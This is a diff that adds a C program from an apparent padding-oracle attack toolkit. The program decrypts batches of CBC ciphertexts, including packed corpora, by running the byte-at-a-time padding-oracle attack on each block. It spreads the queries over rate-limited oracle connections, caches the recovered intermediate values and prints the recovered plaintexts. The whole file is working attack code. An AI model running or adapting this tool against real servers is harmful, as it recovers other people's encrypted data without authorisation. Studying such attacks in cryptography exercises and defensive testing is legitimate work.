@@ -0,0 +1,314 @@
+#include "oracle.h"
+#include "cache.h"
+#include "../common/scheduler.h"
+#include "../common/metrics.h"
+#include "../common/hex.h"
+#include "../common/corpusfile.h"
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+
+// Decrypt many ciphertexts against the same padding oracle at once.
+// Every ciphertext block (except the IV) becomes one scheduler job, so blocks
+// of all files share the oracle connections fairly and the global query rate
+// stays within the server's budget. Blocks whose intermediate is in the cache
+// cost no queries, and newly recovered intermediates are added to it.
+//
+// A packed corpus file (see tools/corpus.c) stands for all of its records.
+//
+// Usage: batch [-r queries/sec] [-b burst] [-c connections] [-l latency_ms] [-k cache_file] <filename>...
+
+static int const blockSize = 16;
+
+typedef struct cipherFile
+{
+    char *path;
+    const unsigned char *cipherText;    // into buffer, or into a mapped corpus
+    unsigned char *buffer;
+    unsigned char *plainText;
+    int blocks;
+} cipherFile;
+
+// state of the byte-at-a-time attack on one block, the same search as forge.c
+typedef struct blockJob
+{
+    const unsigned char *previous;
+    unsigned char *plain;
+    intermediateSearch search;
+    int done;
+} blockJob;
+
+static int connectOracle(void *ctx)
+{
+    (void)ctx;
+
+    return Oracle_Open();
+}
+
+static void disconnectOracle(void *ctx, int conn)
+{
+    (void)ctx;
+
+    Oracle_Close(conn);
+}
+
+static int attackStep(void *state, int conn, size_t *bytes)
+{
+    blockJob *job = state;
+    int position = job->search.position, i, ret;
+
+    ret = Oracle_SendFd(conn, job->search.query, 2);
+
+    if (ret == -1)
+    {
+        return SCHED_STEP_ERROR;
+    }
+
+    switch (Intermediate_Answer(&job->search, ret == 1))
+    {
+        case SEARCH_FAIL:
+            return SCHED_STEP_FAIL;
+
+        case SEARCH_DONE:
+            for (i = 0; i < blockSize; i++)
+            {
+                job->plain[i] = job->search.intermediate[i] ^ job->previous[i];
+            }
+
+            (*bytes)++;
+            job->done = 1;
+            return SCHED_STEP_DONE;
+
+        default:
+            if (job->search.position != position)
+            {
+                (*bytes)++;
+            }
+
+            return SCHED_STEP_MORE;
+    }
+}
+
+static int addCipherText(cipherFile *file, const char *path, const unsigned char *cipherText,
+                         size_t length, unsigned char *buffer)
+{
+    if (length < 2 * blockSize || length % blockSize != 0)
+    {
+        printf("%s: ciphertext must be an IV followed by whole blocks\n", path);
+        free(buffer);
+        return -1;
+    }
+
+    file->path = strdup(path);
+    file->cipherText = cipherText;
+    file->buffer = buffer;
+    file->blocks = length / blockSize;
+    file->plainText = calloc(length - blockSize + 1, 1);
+
+    return 0;
+}
+
+// appends the ciphertexts of one argument, returns how many or -1
+static int loadCipherFile(const char *path, cipherFile **files, int *count, corpusFile **corpus)
+{
+    char name[4096];
+    corpusRecord record;
+    size_t length, i;
+    unsigned char *data;
+
+    *corpus = NULL;
+
+    if (!CorpusFile_Is(path))
+    {
+        if ((data = Hex_LoadFile(path, &length)) == NULL)
+        {
+            return -1;
+        }
+
+        *files = realloc(*files, (*count + 1) * sizeof(cipherFile));
+
+        if (addCipherText(&(*files)[*count], path, data, length, data) != 0)
+        {
+            return -1;
+        }
+
+        (*count)++;
+        return 1;
+    }
+
+    if ((*corpus = CorpusFile_Open(path)) == NULL)
+    {
+        return -1;
+    }
+
+    // records are attacked in place in the mapping
+    *files = realloc(*files, (*count + CorpusFile_Count(*corpus)) * sizeof(cipherFile));
+
+    for (i = 0; i < CorpusFile_Count(*corpus); i++)
+    {
+        snprintf(name, sizeof(name), "%s#%zu", path, i);
+
+        if (CorpusFile_Record(*corpus, i, &record) != 0 ||
+            addCipherText(&(*files)[*count], name, record.data, record.length, NULL) != 0)
+        {
+            return -1;
+        }
+
+        (*count)++;
+    }
+
+    return CorpusFile_Count(*corpus);
+}
+
+int main(int argc, char *argv[])
+{
+    sched_config config;
+    sched_transport transport = { connectOracle, disconnectOracle, NULL };
+    sched_stats stats;
+    const char *cachePath = NULL;
+    int opt, i, block, files, jobCount = 0, cached = 0, failed;
+
+    Metrics_Init("batch");
+
+    Sched_DefaultConfig(&config);
+
+    while ((opt = getopt(argc, argv, "r:b:c:l:k:")) != -1)
+    {
+        switch (opt)
+        {
+            case 'r': config.rate = atof(optarg); break;
+            case 'b': config.burst = atof(optarg); break;
+            case 'c': config.max_inflight = atoi(optarg); break;
+            case 'l': config.latency_target = atof(optarg) / 1000.0; break;
+            case 'k': cachePath = optarg; break;
+            default:
+                printf("Usage: batch [-r queries/sec] [-b burst] [-c connections] [-l latency_ms] [-k cache_file] <filename>...\n");
+                return -1;
+        }
+    }
+
+    if (optind == argc)
+    {
+        printf("Usage: batch [-r queries/sec] [-b burst] [-c connections] [-l latency_ms] [-k cache_file] <filename>...\n");
+        return -1;
+    }
+
+    cipherFile *cipherFiles = NULL;
+    corpusFile **corpora = calloc(argc, sizeof(corpusFile *));
+
+    if (corpora == NULL)
+    {
+        printf("Out of memory\n");
+        return -1;
+    }
+
+    files = 0;
+
+    for (i = optind; i < argc; i++)
+    {
+        if (loadCipherFile(argv[i], &cipherFiles, &files, &corpora[i]) < 0)
+        {
+            return -1;
+        }
+    }
+
+    for (i = 0; i < files; i++)
+    {
+        jobCount += cipherFiles[i].blocks - 1;
+    }
+
+    intermediateCache *cache = Cache_Open(cachePath);
+
+    if (cache == NULL)
+    {
+        return -1;
+    }
+
+    sched *scheduler = Sched_Create(&config, &transport);
+    blockJob *jobs = calloc(jobCount > 0 ? jobCount : 1, sizeof(blockJob));
+    blockJob *job = jobs;
+
+    if (scheduler == NULL || jobs == NULL)
+    {
+        printf("Could not set up the scheduler\n");
+        return -1;
+    }
+
+    for (i = 0; i < files; i++)
+    {
+        for (block = 1; block < cipherFiles[i].blocks; block++, job++)
+        {
+            job->previous = cipherFiles[i].cipherText + (block - 1) * blockSize;
+            job->plain = cipherFiles[i].plainText + (block - 1) * blockSize;
+            Intermediate_Begin(&job->search, cipherFiles[i].cipherText + block * blockSize);
+
+            if (Cache_Lookup(cache, job->search.query + blockSize, job->search.intermediate))
+            {
+                for (int k = 0; k < blockSize; k++)
+                {
+                    job->plain[k] = job->search.intermediate[k] ^ job->previous[k];
+                }
+
+                job->done = 1;
+                cached++;
+                continue;
+            }
+
+            Sched_Add(scheduler, attackStep, job);
+        }
+    }
+
+    failed = Sched_Run(scheduler);
+    Sched_Stats(scheduler, &stats);
+
+    for (i = 0; i < jobCount; i++)
+    {
+        if (jobs[i].done)
+        {
+            Cache_Store(cache, jobs[i].search.query + blockSize, jobs[i].search.intermediate);
+        }
+        else
+        {
+            // a failed block must not end the plaintext it is in
+            memset(jobs[i].plain, '_', blockSize);
+        }
+    }
+
+    for (i = 0; i < files; i++)
+    {
+        int length = (cipherFiles[i].blocks - 1) * blockSize;
+        int padding = cipherFiles[i].plainText[length - 1];
+
+        // strip the padding when it looks valid
+        if (padding > 0 && padding <= blockSize)
+        {
+            cipherFiles[i].plainText[length - padding] = '\0';
+        }
+
+        printf("%s: %s\n", cipherFiles[i].path, cipherFiles[i].plainText);
+
+        free(cipherFiles[i].path);
+        free(cipherFiles[i].buffer);
+        free(cipherFiles[i].plainText);
+    }
+
+    for (i = optind; i < argc; i++)
+    {
+        CorpusFile_Close(corpora[i]);
+    }
+
+    printf("\n%zu queries, %zu errors, %d/%d blocks failed, %d from cache\n",
+           stats.queries, stats.errors, failed, jobCount, cached);
+    printf("%.2f s, %.1f queries/s, %.1f bytes/s, final window %.1f, avg latency %.1f ms\n",
+           stats.elapsed, stats.queries / stats.elapsed, stats.bytes / stats.elapsed,
+           stats.inflight, stats.latency_avg * 1000.0);
+
+    Sched_Destroy(scheduler);
+    Cache_Close(cache);
+    free(jobs);
+    free(cipherFiles);
+    free(corpora);
+
+    return failed ? -1 : 0;
+}